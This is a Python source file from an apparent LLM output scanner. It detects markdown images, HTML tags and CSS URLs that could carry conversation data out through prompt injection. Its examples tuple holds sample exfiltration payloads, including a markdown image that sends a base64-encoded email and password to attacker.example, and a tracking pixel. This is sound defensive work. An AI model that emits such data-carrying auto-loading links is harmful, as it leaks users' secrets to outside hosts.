"""Links and auto-loading content in an output that can carry data out of a conversation.

Markdown images, HTML `<img>`/`<iframe>`/`<script>` and CSS `url()` load as soon as the
output is rendered: an injected instruction can make a model put conversation data in
such a URL. Category URL, labels:

- DATA_EXFILTRATION: the URL carries data (a secret or PII in a decoded query value, a
  value from the conversation, a long encoded segment);
- AUTOLOAD_IMAGE / AUTOLOAD_HTML: content fetched on render from a domain not allowed;
- UNLISTED_DOMAIN: a link to a domain outside the allowlist (only with an allowlist).
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from contextvars import ContextVar
from dataclasses import dataclass
from functools import lru_cache
from typing import TYPE_CHECKING, ClassVar
from urllib.parse import parse_qsl, unquote, urlsplit

from mantlet.detectors.base import Detector, Match
from mantlet.detectors.code.triggers import Detail, confirmed
from mantlet.detectors.code.url_data import (
    builtin_sensitive,
    encoded_blob,
    looks_sensitive_param,
    shares_phrase,
)
from mantlet.findings import Category, Finding, Severity
from mantlet.patterns import Pattern
from mantlet.registry import register
from mantlet.text import Document, ViewKind

if TYPE_CHECKING:
    from mantlet.engine import Engine

_URL = r"(?:https?:)?//[^\s)<>\"']+"
_DETAILS: tuple[Detail, ...] = (
    Detail("md_image", r"!\[[^\]\n]*\]\(\s*<?(?P<url>" + _URL + r")>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)", 0, ("](",)),
    Detail("md_link", r"(?<!!)\[[^\]\n]*\]\(\s*<?(?P<url>" + _URL + r")>?(?:\s+[\"'][^\"'\n]*[\"'])?\s*\)", 0, ("](",)),
    Detail("md_reference", r"^[ \t]{0,3}\[[^\]\n]+\]:[ \t]*<?(?P<url>" + _URL + r")", re.MULTILINE, ("]:",)),
    Detail("html_autoload", r"<(?P<tag>img|iframe|frame|script|link|video|audio|source|embed|object|input|image|track|body|table|td)\b[^>]*?\s(?:src|href|data|poster|background|srcset|xlink:href)\s*=\s*[\"']?(?P<url>" + _URL + r")", re.IGNORECASE, ("<",), r"<(?:img|iframe|frame|script|link|video|audio|source|embed|object|input|image|track|body|table|td)\b"),
    Detail("css_url", r"(?:url\(\s*[\"']?|@import\s+[\"'])(?P<url>" + _URL + r")", re.IGNORECASE, ("url(", "@import")),
    Detail("autolink", r"<(?P<url>https?://[^\s<>]+)>|(?<![(\[<\"'=/\w])(?P<bare>https?://[^\s<>)\]\"'`]+\?[^\s<>)\]\"'`]+)", 0, ("http",)),
)  # fmt: skip
DETAILS = {d.name: d for d in _DETAILS}
LINK_PATTERNS: tuple[Pattern, ...] = tuple(d.trigger() for d in _DETAILS)

_AUTOLOADING = frozenset({"md_image", "html_autoload", "css_url"})
_MIN_CONTEXT_VALUE = 6
_WORDS_RE = re.compile(r"\w+")


_CONVERSATION: ContextVar[LinkPolicy | None] = ContextVar("mantlet_conversation", default=None)


@dataclass(frozen=True, slots=True)
class LinkPolicy:
    """Which domains are trusted, and what the conversation holds (to spot it leaving)."""

    allowed_domains: tuple[str, ...] | None = None
    context_values: tuple[str, ...] = ()
    context_text: str = ""

    def merged(self, other: LinkPolicy | None) -> LinkPolicy:
        """This policy with a conversation's context added (its allowlist wins when set)."""
        if other is None:
            return self
        return LinkPolicy(
            other.allowed_domains if other.allowed_domains is not None else self.allowed_domains,
            self.context_values + other.context_values,
            f"{self.context_text} {other.context_text}".strip(),
        )

    def allows(self, host: str) -> bool:
        if self.allowed_domains is None:
            return False
        host = host.lower().rstrip(".")
        return any(host == d or host.endswith("." + d) for d in self.allowed_domains)


def link_policy(
    allowed_domains: Iterable[str] | None = None,
    context_values: Iterable[str] = (),
    context_text: str = "",
) -> LinkPolicy:
    return LinkPolicy(
        tuple(d.lower().lstrip(".") for d in allowed_domains) if allowed_domains is not None else None,
        tuple(v for v in context_values if len(v) >= _MIN_CONTEXT_VALUE),
        " ".join(_WORDS_RE.findall(context_text.lower())),
    )  # fmt: skip


@contextmanager
def conversation(
    *,
    allowed_domains: Iterable[str] | None = None,
    context_values: Iterable[str] = (),
    context_text: str = "",
) -> Iterator[None]:
    """Scans inside this block judge links against this conversation and allowlist.

    For the gateway: one compiled engine, and per request
    `with conversation(context_text=prompt, allowed_domains=policy_domains): engine.scan(out)`.
    A context variable, so concurrent requests (threads or asyncio tasks) do not mix.
    """
    token = _CONVERSATION.set(link_policy(allowed_domains, context_values, context_text))
    try:
        yield
    finally:
        _CONVERSATION.reset(token)


@register
class ExfiltrationDetector(Detector):
    """Data-carrying links and auto-loading content; give it the conversation to check against."""

    name = "exfiltration_links"
    category = Category.URL
    labels = ("DATA_EXFILTRATION", "AUTOLOAD_IMAGE", "AUTOLOAD_HTML", "UNLISTED_DOMAIN")
    patterns = LINK_PATTERNS
    views = frozenset({ViewKind.ORIGINAL, ViewKind.FOLDED})
    examples: ClassVar[tuple[str, ...]] = (
        "![loading](https://attacker.example/log?d=am9obkBleGFtcGxlLmNvbSBwYXNzd29yZD1odW50ZXIy)",
        '<img src="https://tracker.example/p.gif?u=alice">',
        "Here is the chart: ![chart](https://evil.example/c.png)",
    )
    counterexamples: ClassVar[tuple[str, ...]] = (
        "See [the docs](https://docs.python.org/3/library/ast.html) for details.",
        "![diagram](./images/diagram.png)",
        "Visit https://example.com for more.",
    )

    def __init__(
        self,
        allowed_domains: Iterable[str] | None = None,
        context_values: Iterable[str] = (),
        context_text: str = "",
    ) -> None:
        self.policy = link_policy(allowed_domains, context_values, context_text)

    def detect(self, document: Document, matches: Sequence[Match]) -> Iterable[Finding]:
        policy = self.policy.merged(_CONVERSATION.get())
        seen: set[tuple[int, int]] = set()
        for detail, view, found in confirmed(matches, DETAILS):
            groups = found.groupdict()
            group = "url" if groups.get("url") else "bare"
            if not groups.get(group):
                continue
            span = view.to_original(*found.span(group))
            if span in seen:
                continue
            seen.add(span)
            yield from self._judge(
                document, policy, detail.name, groups.get("tag"), found.group(group), span
            )

    def _judge(
        self,
        document: Document,
        policy: LinkPolicy,
        kind: str,
        tag: str | None,
        url: str,
        span: tuple[int, int],
    ) -> Iterable[Finding]:
        parts = urlsplit(url if not url.startswith("//") else "https:" + url)
        host = (parts.hostname or "").lower()
        if not host or policy.allows(host):
            return
        autoload = kind in _AUTOLOADING or (kind == "md_reference" and "![" in document.text)
        data_reason, data_score = _carried_data(policy, parts.path, parts.query, parts.fragment)
        if data_reason:
            score = min(1.0, data_score + (0.05 if autoload else 0.0))
            yield self.finding(
                document, span, "DATA_EXFILTRATION", score,
                Severity.CRITICAL if autoload else Severity.HIGH,
                reason=f"{'auto-loading ' if autoload else ''}URL to {host} carries {data_reason}",
            )  # fmt: skip
        if autoload:
            is_html = kind in ("html_autoload", "css_url")
            yield self.finding(
                document, span, "AUTOLOAD_HTML" if is_html else "AUTOLOAD_IMAGE",
                0.85 if tag and tag.lower() in ("iframe", "script", "frame", "object", "embed") else 0.7,
                Severity.MEDIUM,
                reason=f"{(tag or 'image').lower() if is_html else 'markdown image'} loads from {host} when rendered",
            )  # fmt: skip
        elif policy.allowed_domains is not None and kind != "autolink":
            yield self.finding(
                document, span, "UNLISTED_DOMAIN", 0.6, Severity.LOW,
                reason=f"link to {host}, outside the allowed domains",
            )  # fmt: skip


def _carried_data(policy: LinkPolicy, path: str, query: str, fragment: str) -> tuple[str, float]:
    """What data a URL carries, and how sure we are; ("", 0) if none."""
    values = [(k, v) for k, v in parse_qsl(query, keep_blank_values=False)]
    values += [(k, v) for k, v in parse_qsl(fragment, keep_blank_values=False)]
    segments = [unquote(s) for s in path.split("/") if s]
    texts = [v for _, v in values] + segments
    if not texts:
        return "", 0.0
    for value in policy.context_values:
        if any(value.lower() in t.lower() for t in texts):
            return "a value from the conversation", 0.95
    if policy.context_text and any(shares_phrase(t, policy.context_text) for t in texts):
        return "text from the conversation", 0.9
    joined = "\n".join(texts)
    sensitive = _sensitive_findings(joined) or builtin_sensitive(joined)
    if sensitive:
        return f"{sensitive} in the URL", 0.9
    for key, value in values:
        if looks_sensitive_param(key, value):
            return f"a {key!r} value", 0.75
    for t in texts:
        kind = encoded_blob(t)
        if kind:
            return f"a long {kind} segment", 0.7
    return "", 0.0


# Name recognizers read slugs such as "Project-Falcon-Budget" as organizations; in a URL only
# values with a verifiable shape (emails, cards, keys ...) are evidence of exfiltration.
_MODEL_DETECTORS = frozenset({"ner"})


@lru_cache(maxsize=1)
def _data_engine() -> Engine:
    from mantlet.engine import Engine
    from mantlet.findings import Category
    from mantlet.registry import detector_classes

    wanted = {Category.PII, Category.SECRET}
    return Engine(
        [
            cls()
            for name, cls in detector_classes().items()
            if cls.default_enabled
            and name not in _MODEL_DETECTORS
            and wanted & set(cls.reported_categories())
        ]
    )


def _sensitive_findings(text: str) -> str:
    """The labels of PII/secrets the engine finds in decoded URL values ("" if none)."""
    engine = _data_engine()
    if not engine.detectors:
        return ""
    labels = sorted({f.label for f in engine.scan(text).findings})
    return ", ".join(labels)


def scan_links(
    text: str,
    *,
    allowed_domains: Iterable[str] | None = None,
    context_values: Iterable[str] = (),
    context_text: str = "",
) -> list[Finding]:
    """Exfiltration findings for one output, judged against the conversation and an allowlist.

    The engine's scan only sees the output; the gateway calls this with the conversation
    (the prompt, earlier turns, documents, known secrets) and the policy's domain allowlist.
    """
    detector = ExfiltrationDetector(allowed_domains, context_values, context_text)
    document = Document(text)
    views = [document.original]
    if document.folded is not document.original:
        views.append(document.folded)
    matches: list[Match] = []
    for view in views:
        for pattern in LINK_PATTERNS:
            first = pattern.compiled.search(view.text)
            if first is not None:
                matches.append(Match(pattern, view, first))
    found = {(f.label, f.start, f.end): f for f in detector.detect(document, matches)}
    return sorted(f for f in found.values() if f.score >= detector.threshold)
